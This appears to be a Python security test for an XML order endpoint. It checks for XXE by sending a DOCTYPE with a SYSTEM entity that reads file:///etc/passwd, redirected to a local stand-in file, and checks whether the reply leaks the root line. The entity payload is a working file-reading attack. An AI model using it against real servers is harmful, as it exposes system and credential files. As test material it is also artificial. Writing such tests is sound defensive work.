"""An order whose name is a file of the server's (steps 1 to 3).

samples: bad 1, good 1
"""

from pathlib import Path

from attack import attack, load, quoted, use

passwd = Path("passwd").resolve()
passwd.write_text("root:x:0:0:root:/root:/bin/bash\n")
client = load().app.test_client()

use(client.post("/orders", data="<order><name>Anna &amp; Co</name></order>").text)
lines = quoted('<!DOCTYPE order [<!ENTITY who SYSTEM "file:///etc/passwd">]>'), quoted("<order><name>&who;</name></order>")
order = "\n".join(lines).replace("/etc/passwd", str(passwd))
answer = client.post("/orders", data=order)
attack(answer.text.startswith("Thank you, root:x:0:0:"), (answer.status_code, answer.text))
